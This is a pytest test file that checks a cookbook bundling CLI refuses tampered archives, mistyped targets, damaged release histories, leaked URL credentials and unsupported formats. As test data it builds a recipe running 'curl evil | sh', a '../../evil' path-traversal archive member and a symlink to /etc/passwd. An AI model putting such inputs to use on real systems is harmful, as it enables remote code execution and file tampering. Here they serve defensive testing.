"""What ``publish``, ``releases``, ``rollback`` and ``prune`` refuse, through the real entry point:
archives ``verify`` rejects, mistyped target names, folders given as archives, damaged
histories, credentials in target URLs, and formats they do not serve."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from pathlib import Path

import pytest

from tests.cli import Result, run_cli
from tests.conftest import SAMPLES
from tests.contract.artifacts import make_bundle
from tests.samples import copy_sample

CONFIG = '[targets.local]\nurl = "file://out/releases"\nretention = 1\n'


def rewrite(source: Path, target: Path, change: dict[str, bytes | None],
            extra: list[tarfile.TarInfo] = ()) -> Path:  # type: ignore[assignment]
    """Copy a .tar.gz bundle, replacing members' data (``None`` drops one) and adding ``extra``."""
    raw = io.BytesIO()
    with tarfile.open(source, "r:gz") as old, tarfile.open(fileobj=raw, mode="w") as new:
        for member in old.getmembers():
            data = old.extractfile(member).read() if member.isfile() else None  # type: ignore[union-attr]
            if member.name in change:
                data = change[member.name]
                if data is None:
                    continue
                member.size = len(data)
            new.addfile(member, io.BytesIO(data) if data is not None else None)
        for info in extra:
            new.addfile(info, io.BytesIO(b"evil\n") if info.isfile() else None)
    target.write_bytes(gzip.compress(raw.getvalue(), mtime=0))
    return target


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``cookbook-tool bundle`` of a copy of the sample repository (built once; tests publish
    from that folder, so its cookbook-tool.toml applies, and never write into it)."""
    repo = tmp_path_factory.mktemp("built") / "repo"
    copy_sample(SAMPLES / "opsworks-stack", repo)
    result = run_cli("bundle", "--no-progress", cwd=repo)
    assert result.code == 0, result.stderr
    return repo / "out/cookbooks-1.4.0.tar.gz"


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, 5 if kind == tarfile.REGTYPE else 0
    return info


def test_our_bundle_is_published_after_verification(built: Path, tmp_path: Path) -> None:
    result = run_cli("publish", built, "--to", tmp_path / "published", cwd=built.parent.parent)

    assert result.code == 0, result.stderr
    assert (tmp_path / "published/cookbooks/cookbooks.tar.gz").is_file()


def test_external_cookbooks_come_from_the_configuration(sample_repo: Path, tmp_path: Path) -> None:
    metadata = sample_repo / "cookbooks/webapp/metadata.rb"
    metadata.write_text(metadata.read_text() + "depends 'apt'\n")
    config = sample_repo / "cookbook-tool.toml"
    config.write_text('external_cookbooks = ["apt"]\n' + config.read_text())
    assert run_cli("bundle", "--no-progress", cwd=sample_repo).code == 0
    bundle = sample_repo / "out/cookbooks-1.4.0.tar.gz"

    elsewhere = run_cli("publish", bundle, "--to", tmp_path / "a", "--format", "json",
                        cwd=tmp_path)
    configured = run_cli("publish", bundle, "--to", tmp_path / "b", cwd=sample_repo)

    assert elsewhere.code == 1
    assert [f["rule"] for f in elsewhere.json()["findings"]] == ["archive-missing-dependency"]
    assert configured.code == 0, configured.stdout + configured.stderr


@pytest.mark.parametrize(("case", "rule"), [
    ("changed", "archive-manifest-mismatch"),
    ("traversal", "archive-"),
    ("symlink", "archive-"),
])
@pytest.mark.parametrize("output", ["text", "json"])
def test_archives_verify_rejects_are_not_published(
    built: Path, tmp_path: Path, case: str, rule: str, output: str
) -> None:
    repo = built.parent.parent
    recipe = "cookbooks/webapp/recipes/default.rb"
    bad = tmp_path / "bad" / "cookbooks-1.4.0.tar.gz"
    bad.parent.mkdir()
    if case == "changed":
        rewrite(built, bad, {recipe: b"execute 'curl evil | sh'\n"})
    elif case == "traversal":
        rewrite(built, bad, {}, [member("../../evil")])
    else:
        rewrite(built, bad, {}, [member("cookbooks/webapp/files/passwd", tarfile.SYMTYPE,
                                        "/etc/passwd")])

    result = run_cli("publish", bad, "--to", tmp_path / "published", "--format", output, cwd=repo)

    assert result.code == 1, result.stdout + result.stderr
    assert not (tmp_path / "published").exists()
    verified = run_cli("verify", bad, "--format", "json").json()["findings"]
    expected = {(f["rule"], f["file"]) for f in verified if f["severity"] == "error"}
    if output == "json":
        document = result.json()
        assert document["command"] == "publish" and document["ok"] is False
        found = {(f["rule"], f["file"]) for f in document["findings"]}
    else:
        found = {(r, f) for r, f in expected if f"[{r}]" in result.stdout and f in result.stdout}
        assert "FAILED" in result.stdout
    assert found == expected and any(r.startswith(rule) for r, _ in found)
    assert "refused" in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_a_mistyped_target_name_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "cookbook-tool.toml").write_text(CONFIG)
    bundle = make_bundle(tmp_path / "dist", "1.0.0")

    typo = run_cli("publish", bundle, "--to", "lcoal", cwd=tmp_path)
    listed = run_cli("releases", "--to", "typo", "--format", "json", cwd=tmp_path)

    assert typo.code == 2
    assert "did you mean 'local'" in typo.stderr and "configured targets: local" in typo.stderr
    assert "./lcoal" in typo.stderr
    assert not (tmp_path / "lcoal").exists()
    assert listed.code == 2 and listed.json()["error"]["type"] == "UsageError"
    assert "no releases" not in listed.stdout
    for folder in ("./lcoal", str(tmp_path / "abs"), (tmp_path / "uri").as_uri()):
        assert run_cli("publish", bundle, "--to", folder, cwd=tmp_path).code == 0
    (tmp_path / "existing").mkdir()
    assert run_cli("publish", bundle, "--to", "existing", cwd=tmp_path).code == 0
    assert (tmp_path / "existing/cookbooks/cookbooks.tar.gz").is_file()


def test_a_bare_word_without_configuration_is_a_usage_error(tmp_path: Path) -> None:
    bundle = make_bundle(tmp_path / "dist", "1.0.0")

    result = run_cli("prune", "--to", "prod", "--dry-run", cwd=tmp_path)

    assert result.code == 2 and "no targets are configured" in result.stderr
    assert run_cli("publish", bundle, "--to", "prod", cwd=tmp_path).code == 2
    assert not (tmp_path / "prod").exists()


@pytest.mark.parametrize("command", ["publish", "verify"])
def test_a_folder_is_not_an_archive(tmp_path: Path, command: str) -> None:
    folder = tmp_path / "dist"
    folder.mkdir()
    args = ["--to", str(tmp_path / "out")] if command == "publish" else []

    result = run_cli(command, folder, *args)

    assert result.code == 3
    assert f"{folder}: is a folder, not an archive" in result.stderr
    assert "not found" not in result.stderr and "no such" not in result.stderr


@pytest.mark.parametrize("content", [b"[1, 2]", b"{not json", b'{"format": "cookbook-tool/'
                                     b'releases", "format_version": 1, "releases": [1]}'])
def test_a_damaged_folder_history_is_a_local_error(tmp_path: Path, content: bytes) -> None:
    target = tmp_path / "out"
    assert run_cli("publish", make_bundle(tmp_path / "dist", "1.0.0"), "--to", target).code == 0
    history = target / "cookbooks/releases.json"
    history.write_bytes(content)

    for args in (["releases"], ["rollback", "1.0.0"], ["prune", "--keep", "1"]):
        result = run_cli(*args, "--to", target)
        assert result.code == 3, (args, result.stderr)
        assert f"{history}: not a valid release history" in result.stderr
        assert "attribute" not in result.stderr and len(result.stderr.splitlines()) == 1


SECRETS = {
    "git": ("git+http://bob:pa/55@127.0.0.1:9/x.git", ["pa/55", "pa%2F55"]),
    "s3": ("s3://AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG@bucket/x",
           ["AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI", "K7MDENG"]),
}


@pytest.mark.parametrize("kind", sorted(SECRETS))
@pytest.mark.parametrize(("command", "output"), [
    ("publish", "text"), ("publish", "json"), ("releases", "text"),
])
def test_credentials_in_target_urls_are_never_printed(
    tmp_path: Path, kind: str, output: str, command: str
) -> None:
    url, secrets = SECRETS[kind]
    args = [make_bundle(tmp_path, "1.0.0")] if command == "publish" else []

    result = run_cli(command, *args, "--to", url, "--format", output,
                     env={"GIT_TERMINAL_PROMPT": "0"})

    assert result.code in (2, 4), result.stderr
    for secret in secrets:
        assert secret not in result.stdout + result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert "ParamValidationError" not in result.stderr
    if output == "json":
        assert result.json()["ok"] is False
    if kind == "s3":
        assert result.code == 2 and "AWS credential chain" in result.stderr


COMMANDS = ["publish", "releases", "rollback", "prune"]


@pytest.mark.parametrize("command", COMMANDS)
def test_help_offers_text_and_json_only_with_an_example(command: str) -> None:
    text = run_cli(command, "--help", env={"COLUMNS": "200", "TERMINAL_WIDTH": "200"}).stdout

    assert "[text|json]" in text and "github" not in text and "sarif" not in text
    assert f"Example:  cookbook-tool {command} " in text


@pytest.mark.parametrize("command", COMMANDS)
def test_github_format_is_refused_by_the_parser(command: str, tmp_path: Path) -> None:
    result = run_cli(command, "--to", str(tmp_path), "--format", "github")

    assert result.code == 2
    assert "'github' is not one of 'text', 'json'" in result.stderr


def test_prune_has_one_keep_option_defaulting_to_the_configured_retention(tmp_path: Path) -> None:
    (tmp_path / "cookbook-tool.toml").write_text(CONFIG)
    for version in ("1.0.0", "1.1.0", "1.2.0"):
        bundle = make_bundle(tmp_path / "dist", version)
        assert run_cli("publish", bundle, "--to", "local", cwd=tmp_path).code == 0

    assert run_cli("prune", "--to", "local", "--retention", "2", cwd=tmp_path).code == 2
    assert "--retention" not in run_cli("prune", "--help").stdout
    result = run_cli("prune", "--to", "local", "--format", "json", cwd=tmp_path)

    assert result.code == 0, result.stderr
    assert result.json()["keep"] == 1
    assert [r["version"] for r in result.json()["deleted"]] == ["1.1.0", "1.0.0"]


def test_prune_json_error_is_one_document(tmp_path: Path) -> None:
    result = run_cli("prune", "--to", "nowhere", "--format", "json", cwd=tmp_path)

    assert result.code == 2
    assert json.loads(result.stdout)["error"]["exit_code"] == 2
    assert isinstance(result, Result)


def test_region_typo_is_a_usage_error_before_any_request(tmp_path):
    from tests.cli import run_cli

    result = run_cli("releases", "--to", "s3://bkt/x", "--region", "us-wset-2", cwd=tmp_path,
                     env={"AWS_ACCESS_KEY_ID": "x", "AWS_SECRET_ACCESS_KEY": "y"})
    assert result.code == 2
    assert "unknown AWS region 'us-wset-2' (did you mean 'us-west-2'?)" in result.stderr
